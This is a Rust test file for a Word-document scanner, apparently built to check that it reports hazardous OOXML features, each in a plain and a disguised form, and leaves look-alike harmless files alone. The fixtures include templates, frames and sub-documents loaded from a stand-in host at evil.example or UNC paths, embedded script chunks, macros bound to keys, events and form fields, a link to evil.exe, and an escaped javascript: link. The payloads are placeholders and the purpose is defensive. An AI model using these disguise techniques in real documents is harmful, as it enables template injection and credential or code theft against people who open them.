//! The danger matrix: Word (OOX-W): what a document loads, runs or is told by its settings.

use super::cases_objects::planted;
use super::package::{AV, Package, png};
use super::word::{DOC, NS, document, drawing, with_settings};
use crate::Planted;
use crate::matrix::{Case, Expect, Shape};

const STRICT: &str = "http://purl.oclc.org/ooxml/officeDocument/relationships/";
const MS: &str = "http://schemas.microsoft.com/office/";
const W: &str = "xmlns:q=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";
const Z: &str = "xmlns:z=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"";
const SET: &str = "word/settings.xml";

fn run(text: &str) -> String {
    format!("<w:p><w:r><w:t>{text}</w:t></w:r></w:p>")
}

/// A document that only talks of the danger.
fn talk(words: &str) -> Planted {
    planted("talk.docx", &document(&run(words)), &[], &[words])
}

fn cell(inside: &str) -> String {
    format!("<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc>{inside}</w:tc></w:tr></w:tbl>")
}

/// A header with this content; the section that shows it comes first.
pub(super) fn with_header(body: &str, header: &str) -> Package {
    document(&format!(
        "<w:p><w:pPr><w:sectPr><w:headerReference w:type=\"default\" r:id=\"rIdH\"/></w:sectPr></w:pPr></w:p>{body}"
    ))
    .rel(DOC, "rIdH", "header", "header1.xml")
    .part(
        "word/header1.xml",
        &format!("{AV}wordprocessingml.header+xml"),
        format!("<w:hdr {NS}>{header}</w:hdr>"),
    )
}

fn with_web(body: &str, settings: &str) -> Package {
    document(body).rel(DOC, "rIdW", "webSettings", "webSettings.xml").part(
        "word/webSettings.xml",
        &format!("{AV}wordprocessingml.webSettings+xml"),
        format!("<w:webSettings {NS}>{settings}</w:webSettings>"),
    )
}

fn vba(package: Package) -> Package {
    package
        .extension("bin", "application/vnd.ms-office.vbaProject")
        .rel(DOC, "rIdV", &format!("{MS}2006/relationships/vbaProject"), "vbaProject.bin")
        .part("word/vbaProject.bin", "", "Attribute VB_Name = \"ThisDocument\"")
}

fn form(macros: &str) -> String {
    format!(
        "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"><w:ffData><w:name w:val=\"氏名欄\"/><w:enabled/><w:calcOnExit w:val=\"0\"/>{macros}<w:helpText w:type=\"text\" w:val=\"名前を入力\"/><w:statusText w:type=\"text\" w:val=\"入力中\"/><w:ddList><w:listEntry w:val=\"甲\"/><w:listEntry w:val=\"乙\"/></w:ddList></w:ffData></w:fldChar></w:r><w:r><w:instrText> FORMDROPDOWN </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
    )
}

fn link(attributes: &str) -> String {
    format!("<w:p><w:hyperlink {attributes}><w:r><w:rPr><w:i/></w:rPr><w:t>表示文字</w:t></w:r></w:hyperlink></w:p>")
}

/// The cases.
pub(super) fn cases() -> Vec<Case> {
    let case = |id, shape, what, expect, plant| Case { id, shape, what, expect, plant };
    let told = Expect::Reported;
    let quiet = Expect::Untouched;
    use Shape::{Disguised, Neighbour, Plain};
    vec![
        case("OOX-W01", Plain, "a template from outside", told("office.attached-template"), || {
            let package = with_settings("", "<w:attachedTemplate r:id=\"rIdT\"/><w:linkStyles/>").external(
                SET,
                "rIdT",
                "attachedTemplate",
                "http://evil.example/t.dotm",
            );
            planted("template.docx", &package, &["evil.example", "attachedTemplate", "linkStyles"], &["defaultTabStop"])
        }),
        case("OOX-W01", Disguised, "another prefix, the Strict type", told("office.attached-template"), || {
            let package = with_settings("", &format!("<q:attachedTemplate {W} {Z} z:id=\"rIdT\"/>")).external(
                SET,
                "rIdT",
                &format!("{STRICT}attachedTemplate"),
                "\\\\evil.example\\t.dotm",
            );
            planted("template2.docx", &package, &["evil.example", "attachedTemplate"], &["defaultTabStop"])
        }),
        case("OOX-W01", Neighbour, "only the word", quiet, || talk("attachedTemplate の設定")),
        case("OOX-W03", Plain, "a chunk of HTML", told("office.alt-chunk"), || {
            let package = document("<w:altChunk r:id=\"rIdC\"><w:altChunkPr><w:matchSrc/></w:altChunkPr></w:altChunk>")
                .rel(DOC, "rIdC", "aFChunk", "afchunk.htm")
                .part("word/afchunk.htm", "text/html", "<script>evil</script>");
            planted("chunk.docx", &package, &["altChunk", "afchunk", "<script>"], &[])
        }),
        case("OOX-W03", Disguised, "alone in a cell, under another name", told("office.alt-chunk"), || {
            let package = document(&cell(&format!("<q:altChunk {W} {Z} z:id=\"rIdC\"/>")))
                .rel(DOC, "rIdC", &format!("{STRICT}aFChunk"), "styles9.xml")
                .part("word/styles9.xml", &format!("{AV}wordprocessingml.styles+xml"), "{\\rtf1 evil}");
            planted("chunk2.docx", &package, &["altChunk", "styles9", "rtf1"], &["<w:p/></w:tc>"])
        }),
        case("OOX-W03", Neighbour, "only the word", quiet, || talk("altChunk と aFChunk の説明")),
        case("OOX-W04", Plain, "a part of a master document", told("office.sub-document"), || {
            let package = document("<w:p><w:subDoc r:id=\"rIdC\"/></w:p>").external(
                DOC,
                "rIdC",
                "subDocument",
                "\\\\evil.example\\a.docx",
            );
            planted("sub.docx", &package, &["evil.example", "subDoc"], &[])
        }),
        case("OOX-W04", Disguised, "inside the package, another prefix", told("office.sub-document"), || {
            let package = document(&format!("<w:p><q:subDoc {W} {Z} z:id=\"rIdC\"/></w:p>"))
                .rel(DOC, "rIdC", &format!("{STRICT}subDocument"), "chapter.docx")
                .part("word/chapter.docx", "", "PK evil chapter");
            planted("sub2.docx", &package, &["chapter", "subDoc"], &[])
        }),
        case("OOX-W04", Neighbour, "headings of an outline", quiet, || {
            let body = "<w:p><w:pPr><w:outlineLvl w:val=\"0\"/></w:pPr><w:r><w:t>subDoc 第１章</w:t></w:r></w:p>";
            planted("outline.docx", &document(body), &[], &["outlineLvl", "subDoc 第１章"])
        }),
        case("OOX-W05", Plain, "a frame with a source", told("office.frame"), || {
            let package = with_web(
                "",
                "<w:frameset><w:frame><w:sourceFileName r:id=\"rIdF\"/></w:frame></w:frameset><w:optimizeForBrowser/>",
            )
            .external("word/webSettings.xml", "rIdF", "frame", "http://evil.example/f.htm");
            planted("frame.docx", &package, &["evil.example", "frameset"], &["optimizeForBrowser"])
        }),
        case("OOX-W05", Disguised, "a frameset hidden in the divisions", told("office.frame"), || {
            let package = with_web("", &format!("<w:divs><w:div w:id=\"1\"><q:frameset {W}><q:frameset><q:frame><q:sourceFileName {Z} z:id=\"rIdF\"/></q:frame></q:frameset></q:frameset></w:div></w:divs>"))
                .external("word/webSettings.xml", "rIdF", &format!("{STRICT}frame"), "file://evil.example/f.htm");
            planted("frame2.docx", &package, &["evil.example", "frameset", "sourceFileName"], &["<w:div w:id=\"1\"/>"])
        }),
        case("OOX-W05", Neighbour, "divisions with indents and borders", quiet, || {
            let package = with_web(
                "<w:p><w:pPr><w:divId w:val=\"77\"/></w:pPr><w:r><w:t>引用</w:t></w:r></w:p>",
                "<w:divs><w:div w:id=\"77\"><w:blockQuote w:val=\"1\"/><w:marLeft w:val=\"720\"/><w:divBdr><w:top w:val=\"single\" w:sz=\"6\" w:space=\"0\" w:color=\"auto\"/></w:divBdr></w:div></w:divs><w:allowPNG/>",
            );
            planted(
                "divs.docx",
                &package,
                &[],
                &[
                    "<w:div w:id=\"77\"><w:blockQuote w:val=\"1\"/><w:marLeft w:val=\"720\"/><w:divBdr><w:top",
                    "w:divId",
                    "allowPNG",
                ],
            )
        }),
        case("OOX-W07", Plain, "a query that runs on opening", told("office.mail-merge"), || {
            let package = with_settings("", "<w:mailMerge><w:mainDocumentType w:val=\"formLetters\"/><w:connectString w:val=\"Provider=evil\"/><w:query w:val=\"SELECT evil\"/><w:dataSource r:id=\"rIdM\"/></w:mailMerge>")
                .external(SET, "rIdM", "mailMergeSource", "file:///C:/evil.mdb");
            planted("merge.docx", &package, &["Provider=evil", "SELECT evil", "evil.mdb"], &["defaultTabStop"])
        }),
        case("OOX-W07", Disguised, "recipients inside, transforms beside", told("office.mail-merge"), || {
            let package = with_settings("", &format!("<q:mailMerge {W}><q:odso><q:udl q:val=\"evil-udl\"/><q:src {Z} z:id=\"rIdM\"/><q:recipientData z:id=\"rIdN\" {Z}/></q:odso></q:mailMerge><w:saveThroughXslt r:id=\"rIdX\" w:solutionID=\"evil-x\"/><w:useXSLTWhenSaving/><w:attachedSchema w:val=\"urn:evil\"/><w:docVars><w:docVar w:name=\"evil\" w:val=\"payload\"/></w:docVars>"))
                .external(SET, "rIdM", &format!("{STRICT}mailMergeSource"), "\\\\evil.example\\a")
                .external(SET, "rIdX", "transform", "http://evil.example/x.xsl")
                .rel(SET, "rIdN", "recipientData", "recipientData.xml")
                .part("word/recipientData.xml", "", "<w:recipients/>");
            planted("merge2.docx", &package, &["evil", "payload", "recipient", "XSLT", "Xslt"], &["defaultTabStop"])
        }),
        case("OOX-W07", Neighbour, "settings of the page and of Japanese typesetting", quiet, || {
            let settings = "<w:documentProtection w:edit=\"forms\" w:enforcement=\"1\"/><w:evenAndOddHeaders/><w:characterSpacingControl w:val=\"compressPunctuation\"/><w:noLineBreaksAfter w:lang=\"ja-JP\" w:val=\"（［\"/><w:noLineBreaksBefore w:lang=\"ja-JP\" w:val=\"）］\"/><w:compat><w:balanceSingleByteDoubleByteWidth/></w:compat><w:themeFontLang w:val=\"en-US\" w:eastAsia=\"ja-JP\"/><w:decimalSymbol w:val=\".\"/>";
            planted(
                "settings.docx",
                &with_settings("", settings),
                &[],
                &[
                    "documentProtection",
                    "evenAndOddHeaders",
                    "（［",
                    "）］",
                    "balanceSingleByteDoubleByteWidth",
                    "themeFontLang",
                    "decimalSymbol",
                    "compressPunctuation",
                ],
            )
        }),
        case("OOX-W08", Plain, "keys bound to macros", told("office.custom-ui"), || {
            let package = document("")
                .rel(DOC, "rIdK", &format!("{MS}2006/relationships/keyMapCustomizations"), "customizations.xml")
                .part("word/customizations.xml", "application/vnd.ms-word.keyMapCustomizations+xml", "<wne:tcg xmlns:wne=\"http://schemas.microsoft.com/office/word/2006/wordml\"><wne:keymaps><wne:keymap wne:kcmPrimary=\"0041\"><wne:macro wne:macroName=\"EVIL.RUN\"/></wne:keymap></wne:keymaps></wne:tcg>");
            planted("keys.docx", &package, &["EVIL.RUN", "keymap", "customizations"], &[])
        }),
        case(
            "OOX-W08",
            Disguised,
            "a toolbar behind the key map, under another name",
            told("office.custom-ui"),
            || {
                let package = document("")
                    .rel(DOC, "rIdK", &format!("{MS}2006/relationships/attachedToolbars"), "media/image3.png")
                    .part("word/media/image3.png", "image/png", "evil toolbar");
                planted("bar.docx", &package, &["evil toolbar", "oolbar", "image3"], &[])
            },
        ),
        case("OOX-W08", Neighbour, "only the word", quiet, || talk("keymap の macroName を設定する手順")),
        case("OOX-W09", Plain, "a table of events", told("office.macro"), || {
            let package = vba(document(""))
                .rel("word/vbaProject.bin", "rId1", &format!("{MS}2006/relationships/wordVbaData"), "vbaData.xml")
                .part("word/vbaData.xml", "application/vnd.ms-word.vbaData+xml", "<wne:vbaSuppData xmlns:wne=\"http://schemas.microsoft.com/office/word/2006/wordml\"><wne:docEvents><wne:eventDocOpen/></wne:docEvents></wne:vbaSuppData>");
            planted("events.docx", &package, &["vbaData", "eventDocOpen", "VB_Name"], &[])
        }),
        case("OOX-W09", Disguised, "led to without a project, as plain XML", told("office.macro"), || {
            let package = document("")
                .rel(DOC, "rIdV", &format!("{MS}2006/relationships/wordVbaData"), "theme/theme9.xml")
                .part("word/theme/theme9.xml", "application/xml", "<z:vbaSuppData xmlns:z=\"http://schemas.microsoft.com/office/word/2006/wordml\"><z:mcds><z:mcd z:macroName=\"EVIL.RUN\"/></z:mcds></z:vbaSuppData>");
            planted("events2.docx", &package, &["EVIL.RUN", "theme9", "vbaSuppData"], &[])
        }),
        case("OOX-W09", Neighbour, "only the word", quiet, || talk("vbaData の eventDocOpen とは")),
        case("OOX-W10", Plain, "a macro on entering", told("office.form-macro"), || {
            planted(
                "form.docx",
                &document(&form("<w:entryMacro w:val=\"EvilIn\"/>")),
                &["EvilIn", "entryMacro"],
                &["氏名欄", "乙"],
            )
        }),
        case("OOX-W10", Disguised, "another prefix, on leaving, in a header", told("office.form-macro"), || {
            let package = with_header("", &form(&format!("<q:exitMacro {W} q:val=\"EvilOut\"/>")));
            planted("form2.docx", &package, &["EvilOut", "exitMacro"], &["氏名欄", "乙"])
        }),
        case("OOX-W10", Neighbour, "a form field without macros", quiet, || {
            let kept = ["氏名欄", "名前を入力", "入力中", "w:ddList", "甲", "乙", "FORMDROPDOWN", "w:enabled"];
            planted("form3.docx", &document(&form("")), &[], &kept)
        }),
        case("OOX-W11", Plain, "a link to a program", told("office.link"), || {
            let package =
                document(&link("r:id=\"rIdL\"")).external(DOC, "rIdL", "hyperlink", "file:///C:/Windows/evil.exe");
            planted("link.docx", &package, &["evil.exe", "w:hyperlink"], &["<w:i/>", "表示文字"])
        }),
        case("OOX-W11", Disguised, "a script, spelled in escapes, in a frame", told("office.link"), || {
            let package = document(&link("r:id=\"rIdL\" w:tgtFrame=\"_top\" w:docLocation=\"\\\\evil.example\\x\""))
                .external(DOC, "rIdL", &format!("{STRICT}hyperlink"), " java%73cript:evil()");
            planted("link2.docx", &package, &["evil()", "evil.example"], &["<w:i/>", "表示文字"])
        }),
        case("OOX-W11", Neighbour, "the city's own page, and a place in the text", quiet, || {
            let body = format!("{}{}", link("r:id=\"rIdL\" w:history=\"1\""), link("w:anchor=\"第２章\""));
            let package =
                document(&body).external(DOC, "rIdL", "hyperlink", "https://www.city.example.lg.jp/a?b=1&c=2");
            planted(
                "link3.docx",
                &package,
                &[],
                &["https://www.city.example.lg.jp/a?b=1&amp;c=2", "w:anchor=\"第２章\""],
            )
        }),
        case("OOX-W14", Plain, "handwriting with a picture for old programs", told("office.ink"), || {
            let package = document("<w:p><w:r><mc:AlternateContent><mc:Choice Requires=\"w14\"><w14:contentPart r:id=\"rIdI\"/></mc:Choice><mc:Fallback><w:t>代替の絵</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>")
                .rel(DOC, "rIdI", "customXml", "ink/ink1.xml")
                .part("word/ink/ink1.xml", "application/inkml+xml", "<inkml:ink xmlns:inkml=\"http://www.w3.org/2003/InkML\">evil ink</inkml:ink>");
            planted("ink.docx", &package, &["contentPart", "evil ink", "inkml"], &["代替の絵"])
        }),
        case("OOX-W14", Disguised, "outside any choice, another prefix", told("office.ink"), || {
            let package =
                document(&format!("<w:p><w:r><q:contentPart {W} {Z} z:id=\"rIdI\"/><w:t>続き</w:t></w:r></w:p>"))
                    .rel(DOC, "rIdI", "customXml", "../customXml/item9.xml")
                    .part(
                        "customXml/item9.xml",
                        "application/xml",
                        "<i:ink xmlns:i=\"http://www.w3.org/2003/InkML\">evil ink</i:ink>",
                    );
            planted("ink2.docx", &package, &["contentPart", "evil ink", "item9"], &["続き"])
        }),
        case("OOX-W14", Neighbour, "a picture called ink", quiet, || {
            let package = document(&drawing("<a:blip r:embed=\"rIdPic\"/>"))
                .rel(DOC, "rIdPic", "image", "media/ink1.png")
                .part("word/media/ink1.png", "", png());
            planted("ink3.docx", &package, &[], &["r:embed=\"rIdPic\""])
        }),
    ]
}
